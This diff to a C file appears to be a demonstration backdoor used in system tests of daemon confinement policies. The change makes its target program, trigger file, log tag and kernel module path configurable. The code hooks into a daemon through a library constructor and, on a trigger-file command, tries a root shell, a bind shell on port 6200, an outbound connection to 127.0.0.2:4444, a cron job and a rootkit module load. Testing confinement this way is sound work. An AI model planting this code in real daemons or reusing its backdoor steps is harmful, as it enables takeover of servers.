@@ -11,6 +11,12 @@
  * in its environment the outcomes go to syslog instead ("intruder"), over
  * the /dev/log its profile allows.  It only ever touches loopback
  * addresses.
+ *
+ * The system tests plant it in other daemons too: DEMO_BACKDOOR_IN names
+ * the program to live in (a substring of its path, default vsftpd),
+ * DEMO_BACKDOOR_TRIGGER the command file (default /run/attack),
+ * DEMO_BACKDOOR_TAG the syslog tag (default intruder) and
+ * DEMO_BACKDOOR_MODULE the module file the rootkit step loads.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -29,6 +35,13 @@
 
 /* The channel back, opened before any policy is loaded. */
 static int log_fd = -1;
+
+static const char *setting(const char *name, const char *fallback)
+{
+	const char *v = getenv(name);
+
+	return v && *v ? v : fallback;
+}
 
 static int plant_cron_job(void)
 {
@@ -109,7 +122,8 @@ static void to_syslog(char *report)
 {
 	char *line, *save = NULL;
 
-	openlog("intruder", LOG_NDELAY, LOG_USER);
+	openlog(setting("DEMO_BACKDOOR_TAG", "intruder"), LOG_NDELAY,
+		LOG_USER);
 	for (line = strtok_r(report, "\n", &save); line;
 	     line = strtok_r(NULL, "\n", &save))
 		syslog(LOG_WARNING, "%s", line);
@@ -127,8 +141,8 @@ static void attack(int rootkit)
 
 	if (!log)
 		return;
-	fprintf(log, "intruder inside vsftpd (pid %d, uid %d):\n", getpid(),
-		getuid());
+	fprintf(log, "intruder inside %s (pid %d, uid %d):\n",
+		program_invocation_short_name, getpid(), getuid());
 	note(log, "exec /bin/sh (a root shell)", spawn_shell());
 	note(log, "bind shell on port 6200", tcp("0.0.0.0", 6200, 1));
 	note(log, "connect out to 127.0.0.2:4444 (its server)",
@@ -143,7 +157,8 @@ static void attack(int rootkit)
 		free(report);
 		return;
 	}
-	fd = open("/lib/modules/dmzguard.ko", O_RDONLY | O_CLOEXEC);
+	fd = open(setting("DEMO_BACKDOOR_MODULE", "/lib/modules/dmzguard.ko"),
+		  O_RDONLY | O_CLOEXEC);
 	note(log, "load a kernel module (the rootkit)",
 	     fd < 0 ? -1 : (int)syscall(SYS_finit_module, fd, "", 0));
 	if (fd >= 0)
@@ -157,15 +172,15 @@ static void attack(int rootkit)
 	free(report);
 }
 
-/* Each new command in /run/attack ("N basic", "N rootkit") runs once. */
+/* Each new command in the trigger ("N basic", "N rootkit") runs once. */
 static void *watch(void *arg)
 {
+	const char *trigger = arg;
 	char last[32] = "";
 
-	(void)arg;
 	for (;;) {
 		char buf[32] = "";
-		FILE *f = fopen("/run/attack", "r");
+		FILE *f = fopen(trigger, "r");
 
 		if (f) {
 			if (!fgets(buf, sizeof(buf), f))
@@ -186,10 +201,14 @@ __attribute__((constructor)) static void plant(void)
 	pthread_t t;
 
 	/* Only in the daemon itself, not in programs it might run. */
-	if (!strstr(program_invocation_name, "vsftpd"))
+	if (!strstr(program_invocation_name,
+		    setting("DEMO_BACKDOOR_IN", "vsftpd")))
 		return;
-	log_fd = open("/run/attack.log", O_WRONLY | O_CREAT | O_APPEND |
-		      O_CLOEXEC, 0600);
-	pthread_create(&t, NULL, watch, NULL);
+	/* Reporting through syslog, it has no file to open. */
+	if (!getenv("DEMO_BACKDOOR_SYSLOG"))
+		log_fd = open("/run/attack.log", O_WRONLY | O_CREAT |
+			      O_APPEND | O_CLOEXEC, 0600);
+	pthread_create(&t, NULL, watch,
+		       (void *)setting("DEMO_BACKDOOR_TRIGGER", "/run/attack"));
 	pthread_detach(t);
 }
